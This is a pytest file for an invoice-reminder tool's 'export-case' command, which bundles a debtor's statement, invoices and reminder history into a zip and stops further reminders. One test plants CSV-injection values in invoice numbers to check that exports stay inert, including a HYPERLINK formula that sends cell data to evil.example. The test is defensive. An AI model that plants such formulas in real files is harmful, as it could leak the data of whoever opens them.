"""``encours export-case``: the zip a collection agency or a court receives, and reminders stop."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from encours.sync.channels.smtp import SmtpChannel
from encours.sync.cli import main
from encours.sync.config import Config, load_config
from encours.sync.export_case import CaseError, export_case
from encours.sync.run import run_pass
from tests.conftest import write_config
from tests.support.fake_source import FakeSource, LedgerFile
from tests.support.reminders import customer, invoice, ledger
from tests.support.smtp_server import SmtpServer

MONDAY = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
PDF = b"%PDF-1.4\n% the invoice as the source keeps it\n%%EOF\n"


def _setup(tmp_path: Path) -> tuple[Config, LedgerFile]:
    config = load_config(write_config(tmp_path, extra='from = "factures@dupont.example"\n'))
    file = LedgerFile(tmp_path / "ledger.json")
    file.save(ledger(
        invoice("I1", 40, "1200.00", customer_id="C1", pdf_url="https://pdf.example/I1.pdf"),
        invoice("I2", 18, "300.00", customer_id="C1", pdf_url="https://pdf.example/I2.pdf"),
        invoice("I3", 20, "450.00", customer_id="C2"),
        customers=(customer("C1", name="Garage Faure", siren="552100554"), customer("C2")),
    ))
    return config, file


def _mark(workbook: Path, invoice_id: str, **cells: Any) -> None:
    wb = load_workbook(workbook)
    ws = wb["Factures"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[header.index("ID")].value == invoice_id:
            for heading, value in cells.items():
                row[header.index(heading)].value = value
    wb.save(workbook)


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_case_file_holds_statement_invoices_reminders_and_marks_then_reminders_stop(tmp_path: Path) -> None:
    config, file = _setup(tmp_path)
    fetched: list[str] = []

    def fetch(url: str) -> bytes:
        fetched.append(url)
        if url.endswith("I2.pdf"):
            raise OSError("the server answered 404")
        return PDF

    with SmtpServer() as server:
        first = run_pass(config, as_of=MONDAY.date(), now=MONDAY, connector=FakeSource(file),
                         channel=SmtpChannel("127.0.0.1", server.port, security="none"), fetch_pdf=fetch)
        assert [o.customer for o in first.sent] == ["Garage Faure", "Client C2"]
        reminder = next(r.message for r in server.handler.received if r.recipients[0] == "compta@c1.example")
        attached = {p.get_filename(): p.get_content() for p in reminder.iter_attachments()}
        assert attached["facture F-I1.pdf"] == PDF, "the invoice PDF the source offers is attached"
        assert not any("F-I2" in name for name in attached), "a PDF the source cannot give is left out"
        fetched.clear()
        _mark(config.sheet.path("path"), "I1", **{"Promesse (date)": "15/11/2026", "Commentaire": "promis au tél."})
        _mark(config.sheet.path("path"), "I2", **{"Litige": "Oui"})
        sent_bytes = next(r.data for r in server.handler.received if r.recipients[0] == "compta@c1.example")

        result = export_case(config, "garage", as_of=MONDAY.date(), now=MONDAY + timedelta(hours=1), fetch_pdf=fetch)
        assert result.customer_id == "C1" and str(result.balance) == "1500.00" and result.newly_in_recovery
        assert result.missing_pdfs == ("F-I2",) and result.invoice_pdfs == 1 and result.reminders == 1

        with zipfile.ZipFile(result.path) as archive:
            names = {n.split("/", 1)[1]: n for n in archive.namelist()}
            assert {"LISEZMOI.txt", "releve-de-compte.pdf", "releve-de-compte.csv", "factures/f-i1.pdf",
                    "factures/factures.csv", "paiements.csv", "relances/historique.csv",
                    "promesses-litiges.csv"} <= set(names)
            statement = "".join(p.extract_text() for p in PdfReader(io.BytesIO(archive.read(
                names["releve-de-compte.pdf"]))).pages)
            assert "Garage Faure" in statement and "F-I1" in statement and "F-I2" in statement
            assert "1500.00 EUR" in statement and "F-I3" not in statement
            assert archive.read(names["factures/f-i1.pdf"]) == PDF
            eml = [n for k, n in names.items() if k.startswith("relances/") and k.endswith(".eml")]
            assert len(eml) == 1
            kept = email.message_from_bytes(archive.read(eml[0]), policy=email.policy.default)
            received = email.message_from_bytes(sent_bytes, policy=email.policy.default)
            assert kept["Message-ID"] == received["Message-ID"] and kept["To"] == received["To"]
            history = _rows(archive.read(names["relances/historique.csv"]))
            assert [(h["Statut"], h["Canal"]) for h in history] == [("envoyée", "email")]
            assert history[0]["Destinataires"].startswith("compta@c1.example") and history[0]["Date et heure"]
            marks = {r["Facture"]: r for r in _rows(archive.read(names["promesses-litiges.csv"]))}
            assert marks["F-I1"]["Promesse (date)"] == "2026-11-15" and marks["F-I1"]["Commentaire"] == "promis au tél."
            assert marks["F-I2"]["Litige"] == "oui"
            readme = archive.read(names["LISEZMOI.txt"]).decode().splitlines()
            assert readme[:6] == [
                "Dossier de recouvrement — Garage Faure",
                f"Créancier : {config.company_name}",
                "Débiteur : Garage Faure (C1) — SIREN 552100554",
                "Établi le 23/11/2026 à partir de la dernière synchronisation de la comptabilité.",
                "",
                "Solde dû : 1500.00 EUR sur 2 pièce(s) ouverte(s).",
            ]
            assert "- factures/ : 1 facture(s) en PDF et factures.csv (toutes les factures du client) ;" in readme
            assert readme[-3:] == ["PDF non disponible à la source pour : F-I2.", "",
                                   "Le client est désormais « en recouvrement » : les relances amiables sont arrêtées."]

        file.pay([])  # the source moves on; ten days later the next reminders fall due
        later = MONDAY + timedelta(days=10)
        after = run_pass(config, as_of=later.date(), now=later, connector=FakeSource(file),
                         channel=SmtpChannel("127.0.0.1", server.port, security="none"), fetch_pdf=fetch)
        assert all(o.customer != "Garage Faure" for o in after.sent + after.waiting_approval + after.deferred)
        assert [r.recipients[0] for r in server.handler.received].count("compta@c1.example") == 1
    relances = load_workbook(config.sheet.path("path"), read_only=True)["Relances"]
    statuses = [row[8] for row in relances.iter_rows(min_row=2, values_only=True)]
    assert "en recouvrement" in statuses


def test_unknown_or_ambiguous_customer_changes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config, file = _setup(tmp_path)
    run_pass(config, as_of=MONDAY.date(), now=datetime(2026, 11, 22, 9, 0, tzinfo=UTC), connector=FakeSource(file),
             fetch_pdf=lambda url: PDF)
    with pytest.raises(CaseError, match=r"several customers: Garage Faure \(C1\), Client C2 \(C2\)"):
        export_case(config, "e", as_of=MONDAY.date(), now=MONDAY, fetch_pdf=lambda url: PDF)
    with pytest.raises(CaseError, match="nobody"):
        export_case(config, "nobody", as_of=MONDAY.date(), now=MONDAY, fetch_pdf=lambda url: PDF)
    assert main(["-q", "export-case", "-c", str(config.file), "nobody"]) == 2
    assert "nobody" in capsys.readouterr().err
    assert not (tmp_path / "dossiers-recouvrement").exists() or not any((tmp_path / "dossiers-recouvrement").iterdir())


def test_case_file_csvs_are_inert_and_show_no_path_of_this_machine(tmp_path: Path) -> None:
    from tests.support.libreoffice import recalculate

    config = load_config(write_config(tmp_path, extra='from = "factures@dupont.example"\n'))
    file = LedgerFile(tmp_path / "ledger.json")
    hostile = '=HYPERLINK("https://evil.example/?leak="&A1;"Payer ici")'
    file.save(ledger(
        invoice("I1", 40, "1200.00", customer_id="C1", number=hostile),
        invoice("I2", 18, "300.00", customer_id="C1", number="+33 1 45 00 00 00"),
        invoice("I3", 18, "300.00", customer_id="C1", number="@SUM(1+1)"),
        customers=(customer("C1", name="-Garage Faure"),),
    ))
    report = run_pass(config, as_of=MONDAY.date(), now=MONDAY, connector=FakeSource(file), fetch_pdf=lambda u: None)
    assert report.sent and str(tmp_path) in report.sent[0].detail, "the outbox path is the sender's own business"
    def no_pdf(url: str) -> bytes:
        raise OSError(f"{url}: not served in this test")

    result = export_case(config, "C1", as_of=MONDAY.date(), now=MONDAY + timedelta(hours=1), fetch_pdf=no_pdf)
    out = tmp_path / "opened"
    with zipfile.ZipFile(result.path) as archive:
        texts = {n: archive.read(n) for n in archive.namelist() if n.endswith((".csv", ".txt"))}
    assert texts and not [n for n, data in texts.items() if str(tmp_path).encode() in data]
    history = next(data for name, data in texts.items() if name.endswith("historique.csv"))
    assert b".eml" in history, "the history still names the message file, without the folder"
    invoices = _rows(next(data for name, data in texts.items() if name.endswith("factures/factures.csv")))
    assert {r["N° facture"] for r in invoices} >= {"'" + hostile, "'@SUM(1+1)"}
    assert any(r["Reste dû"] == "1200.00" for r in invoices), "plain amounts stay numbers"
    for name, data in texts.items():
        if not name.endswith(".csv"):
            continue
        csv_path = out / Path(name).name
        csv_path.parent.mkdir(parents=True, exist_ok=True)
        csv_path.write_bytes(data)
        opened = load_workbook(recalculate(csv_path, out / "xlsx"))
        formulas = [c.coordinate for ws in opened for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], f"{name}: LibreOffice opens live formulas in {formulas}"
